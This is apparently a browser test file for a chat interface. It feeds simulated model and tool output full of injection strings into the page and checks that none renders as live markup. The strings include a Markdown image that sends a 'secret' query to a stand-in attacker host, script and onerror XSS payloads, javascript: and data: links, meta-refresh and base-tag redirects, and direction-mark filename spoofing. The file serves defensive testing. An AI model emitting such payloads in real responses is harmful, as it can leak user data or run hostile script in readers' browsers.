// Text of a model and of a tool that tries to become markup, a request or a lie stays text: naughty strings, Markdown images
// and links, direction marks.

import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

export const args = ["--store", "memory"];
export const views = [{ name: "desktop-light", width: 1366, height: 860, colorScheme: "light" }, { name: "phone-dark", width: 390, height: 844, colorScheme: "dark", isMobile: true }];

const own = [
  "![x](https://evil.test/steal?q=secret)", "[text](https://evil.test/a?b=c)", "[js](javascript:alert(1))", "[data](data:text/html,<script>alert(1)</script>)", "![][ref]\n\n[ref]: https://evil.test/ref.png",
  "<img src=https://evil.test/p.png onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<a href='https://evil.test'>a</a>", "<https://evil.test/auto>", "https://evil.test/bare",
  "```html\n<script>alert(1)</script>\n```", "| a | b |\n|---|---:|\n| <img src=x> | [l](https://evil.test) |", "\u202etxt.exe\u202c", "<style>@import 'https://evil.test/s.css'</style>", "<base href=https://evil.test/>", "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "[a](//evil.test)", "# ![h](https://evil.test/h.png)", "1. a\n   - b\n     > ![q](https://evil.test/q.png)", "**bold** _em_ ~~s~~ `code`", "<iframe srcdoc='<script>alert(1)</script>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
];

export default async function ({ page, base, check, shot }) {
  const file = join(process.env.LATHE_SHARED ?? "/none", "data", "blns", "blns.json");
  const naughty = existsSync(file) ? JSON.parse(readFileSync(file, "utf8")) : [];
  const texts = [...own, ...naughty.filter((s) => s.trim())];
  const part = (p) => `data: ${JSON.stringify(p)}\n\n`;
  const tool = { text: "<img src=x onerror=alert(1)>\u202e\u200b", markdown: "![x](https://evil.test/t.png)" };
  const body = part({ type: "start", messageId: "m1", messageMetadata: { model: "<b>model</b>" } }) + texts.map((t, i) => part({ type: "start-step" }) + part({ type: "text-start", id: `t${i}` }) + part({ type: "text-delta", id: `t${i}`, delta: t }) + part({ type: "text-end", id: `t${i}` })).join("") +
    part({ type: "tool-input-start", toolCallId: "c1", toolName: "<img src=x>" }) + part({ type: "tool-input-available", toolCallId: "c1", toolName: "<img src=x>", input: tool }) + part({ type: "tool-output-available", toolCallId: "c1", output: tool }) +
    part({ type: "finish", messageMetadata: { reason: "answered" } }) + "data: [DONE]\n\n";
  await page.route("**/api/chat", (route) => route.fulfill({ contentType: "text/event-stream", body }));
  await page.goto(base);
  await page.waitForSelector(".welcome");
  await page.fill("#prompt", texts.slice(0, 20).join("\n"));
  await page.keyboard.press("Enter");
  await page.waitForSelector("#stop", { state: "hidden" });
  await page.waitForFunction((n) => document.querySelectorAll(".assistant .said").length === n, texts.length);
  await page.locator(".tool summary").click();
  await page.waitForSelector(".tool .json pre");
  check("elements that load or run", await page.evaluate(() => document.querySelectorAll("#talk :is(img, script, iframe, object, embed, svg, style, link, base, meta, form, a[href])").length), 0);
  check("tables", await page.locator(".md table").count() >= 1);
  check("hidden characters of the tool are escapes", await page.locator(".tool .escape").allTextContents(), ["\\u202e\\u200b", "\\u202e\\u200b"]);
  const link = page.locator(".outside button", { hasText: /^text$/ });
  await link.click();
  check("the whole address is shown", (await page.locator(".outside-address").textContent()).trim(), "https://evil.test/a?b=c open");
  check("it opens apart", await page.locator(".outside-address a").getAttribute("rel"), "noopener noreferrer nofollow");
  await page.locator(".outside button", { hasText: /^js$/ }).click();
  check("no script address opens", await page.locator(".outside-address a").count(), 1);
  await shot();
}
